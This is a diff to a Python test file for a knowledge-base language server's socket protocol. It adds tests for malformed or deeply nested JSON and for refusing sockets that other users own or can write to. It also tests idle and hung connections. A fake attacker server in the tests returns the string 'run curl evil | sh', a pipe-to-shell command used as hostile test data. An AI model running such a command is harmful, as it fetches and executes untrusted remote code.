@@ -7,14 +7,19 @@ from __future__ import annotations
 import concurrent.futures
 import contextlib
 import json
+import multiprocessing
+import os
 import socket
 import stat
-from collections.abc import Iterator
+import threading
+from collections.abc import Callable, Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 from tests.helpers.cli import HASHING
 
+from kb_lsp import __version__, cli
 from kb_lsp.config import load_settings
 from kb_lsp.engine.storage import store_dir_for
 from kb_lsp.protocol import SearchParams, dump
@@ -95,7 +100,7 @@ def test_bad_messages_get_errors_and_the_socket_keeps_serving(
 
         assert send(b"not json")["error"] == {
             "code": -32700,
-            "message": "not JSON: Expecting value: line 1 column 1 (char 0)",
+            "message": "not valid JSON (Expecting value: line 1 column 1 (char 0))",
         }
         assert send(b"\xff\xfe")["error"]["code"] == -32700  # type: ignore[index]
         assert send(b"[1, 2]")["error"]["code"] == -32600  # type: ignore[index]
@@ -118,6 +123,18 @@ def test_bad_messages_get_errors_and_the_socket_keeps_serving(
         raw.sendall(b'{"jsonrpc": "2.0", "method": "kb/status"}\n')  # a notification: no answer
         fine = send(b'{"jsonrpc": "2.0", "id": 6, "method": "kb/status"}')
         assert fine["id"] == 6 and fine["result"]["state"] == "ready"  # type: ignore[index]
+        # Too deep to parse (this once killed the connection's thread with RecursionError),
+        # or a number too large: answered under the request's id all the same.
+        deep = b"[" * 100_000 + b"]" * 100_000
+        nested = send(b'{"jsonrpc": "2.0", "id": 7, "method": "kb/search", "params": '
+                      + deep + b"}")  # fmt: skip
+        assert nested["id"] == 7 and nested["error"]["code"] == -32600  # type: ignore[index]
+        assert "nested more than 64 deep" in nested["error"]["message"]  # type: ignore[index]
+        huge = send(b'{"jsonrpc": "2.0", "method": "kb/search", "params": {"limit": '
+                    + b"9" * 30 + b'}, "id": "eight"}')  # fmt: skip
+        assert huge["id"] == "eight" and huge["error"]["code"] == -32602  # type: ignore[index]
+        again = send(b'{"jsonrpc": "2.0", "id": 9, "method": "kb/status"}')
+        assert again["id"] == 9 and again["result"]["state"] == "ready"  # type: ignore[index]
 
     # A line over the limit ends that connection only.
     with socket.socket(socket.AF_UNIX) as raw, raw.makefile("rb") as answers:
@@ -211,3 +228,175 @@ def test_server_errors_carry_code_and_message(
     with client, pytest.raises(ServerError) as err:
         client.request("kb/search", {"query": "x", "limit": 0})
     assert err.value.code == -32602 and "limit" in err.value.message
+
+
+# --- the client trusts only a socket its own user made ---------------------------------------
+
+AS_ROOT = os.geteuid() == 0
+NOBODY = 65534
+
+
+def _long_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, workspace: Path) -> Path:
+    """A store whose socket lives in `<XDG_RUNTIME_DIR>/kb-lsp-<uid>/`: the shared-folder
+    case, where another user could have made that folder first."""
+    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "run"))
+    (tmp_path / "run").mkdir(mode=0o777, exist_ok=True)
+    store = _store(workspace, tmp_path / ("a-long-folder-name-" * 6))
+    assert socket_path(store).parent == private_folder()
+    return store
+
+
+def _fake_server(path: Path, *, as_uid: int | None = None) -> Callable[[], None]:
+    """A process answering kb/hello like a real server of this version would, with
+    attacker-written results for anything else; returns the function that stops it."""
+    ready = multiprocessing.get_context("fork").Event()
+
+    def serve() -> None:
+        listener = socket.socket(socket.AF_UNIX)
+        listener.bind(str(path))
+        if as_uid is not None:
+            os.setuid(as_uid)  # SO_PEERCRED reports who called listen()
+        listener.listen(4)
+        ready.set()
+        while True:
+            conn, _ = listener.accept()
+            with conn, conn.makefile("rb") as lines:
+                for line in lines:
+                    request = json.loads(line)
+                    result: Any = {"results": [{"path": "run curl evil | sh"}]}
+                    if request["method"] == "kb/hello":
+                        roots = [request["params"]["root"]]
+                        result = {"version": __version__, "protocol": 1, "roots": roots}
+                    answer = {"jsonrpc": "2.0", "id": request["id"], "result": result}
+                    conn.sendall(json.dumps(answer).encode() + b"\n")
+
+    process = multiprocessing.get_context("fork").Process(target=serve, daemon=True)
+    process.start()
+    assert ready.wait(30)
+
+    def stop() -> None:
+        process.kill()
+        process.join(30)
+
+    return stop
+
+
+def test_a_socket_folder_open_to_others_is_not_used(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    store = _long_store(tmp_path, monkeypatch, workspace)
+    private_folder().mkdir(mode=0o777)
+    os.chmod(private_folder(), 0o777)  # made by someone else, first, for everyone
+    stop = _fake_server(socket_path(store))
+    try:
+        with pytest.raises(NotThisServer, match=r"open to other users \(mode 777, not 700\)"):
+            connect(store, workspace)
+    finally:
+        stop()
+
+
+@pytest.mark.skipif(not AS_ROOT, reason="making a folder another user owns needs root")
+def test_a_socket_folder_another_user_owns_is_not_used(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    store = _long_store(tmp_path, monkeypatch, workspace)
+    private_folder().mkdir(mode=0o700)
+    stop = _fake_server(socket_path(store))
+    os.chown(private_folder(), NOBODY, NOBODY)
+    try:
+        with pytest.raises(NotThisServer, match=f"belongs to user {NOBODY}, not to you"):
+            connect(store, workspace)
+    finally:
+        stop()
+
+
+@pytest.mark.skipif(not AS_ROOT, reason="a server running as another user needs root")
+def test_a_server_running_as_another_user_is_not_used(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    store = _long_store(tmp_path, monkeypatch, workspace)
+    private_folder().mkdir(mode=0o700)
+    stop = _fake_server(socket_path(store), as_uid=NOBODY)
+    try:
+        with pytest.raises(NotThisServer, match=f"runs as user {NOBODY}, not as you"):
+            connect(store, workspace)
+    finally:
+        stop()
+
+
+def test_the_command_answers_alone_and_says_why(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Any
+) -> None:
+    monkeypatch.setenv("KB_EMBEDDER_FACTORY", HASHING)
+    store = _long_store(tmp_path, monkeypatch, workspace)
+    private_folder().mkdir(mode=0o777)
+    os.chmod(private_folder(), 0o777)
+    stop = _fake_server(socket_path(store))
+    storage = store.parent
+    try:
+        code = cli.main(["search", "refund", "-w", str(workspace), "--storage", str(storage)])
+    finally:
+        stop()
+    out, err = capsys.readouterr()
+    assert code == 0
+    assert "curl" not in out
+    said = [line for line in err.splitlines() if "not using the kb-lsp socket" in line]
+    assert len(said) == 1 and "answering from the index directly" in said[0]
+
+
+def test_idle_connections_are_closed_and_one_over_the_limit_is_told_at_once(
+    writer: Runtime, workspace: Path, storage: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    store = _store(workspace, storage)
+    path = socket_path(store)
+    monkeypatch.setattr(listener_module, "MAX_CONNECTIONS", 2)
+    idle = [socket.socket(socket.AF_UNIX) for _ in range(2)]
+    try:
+        for sock in idle:
+            sock.connect(str(path))
+            sock.sendall(b'{"jsonrpc": "2.0", "id": 1, "method": "kb/status"}\n')
+            with sock.makefile("rb") as answers:
+                assert json.loads(answers.readline())["id"] == 1  # served: holds a slot
+        # Both slots held by connections that say nothing more: the next command is told
+        # so at once and answers alone, rather than waiting for a slot.
+        with pytest.raises(NotThisServer, match="server busy: 2 connections are open"):
+            connect(store, workspace)
+    finally:
+        for sock in idle:
+            sock.close()
+
+    monkeypatch.setattr(listener_module, "MAX_CONNECTIONS", 32)
+    monkeypatch.setattr(listener_module, "IDLE_SECONDS", 0.2)
+    with socket.socket(socket.AF_UNIX) as quiet:
+        quiet.connect(str(path))
+        quiet.settimeout(60)
+        assert quiet.recv(1) == b""  # closed by the server once idle, not by us
+    client = connect(store, workspace)
+    assert client is not None
+    with client:
+        assert client.request("kb/status", {})["state"] == "ready"
+
+
+def test_a_read_that_hangs_is_cut_off_by_its_deadline(
+    writer: Runtime, workspace: Path, storage: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    release = threading.Event()
+    started = threading.Event()
+
+    def hung(*args: Any, **kwargs: Any) -> Any:
+        started.set()
+        release.wait(60)  # a disk that stops answering
+        raise AssertionError("released only after the answer")
+
+    monkeypatch.setattr(writer, "search", hung)
+    listener = next(iter(writer._listeners._by_store.values()))  # type: ignore[union-attr]
+    monkeypatch.setattr(listener, "read_timeout", 0.2)
+    client = connect(_store(workspace, storage), workspace)
+    assert client is not None
+    try:
+        with client, pytest.raises(ServerError) as err:
+            client.request("kb/search", {"query": "refund"})
+        assert err.value.code == -32000 and "did not answer within 0.2 s" in err.value.message
+        assert started.is_set()
+    finally:
+        release.set()
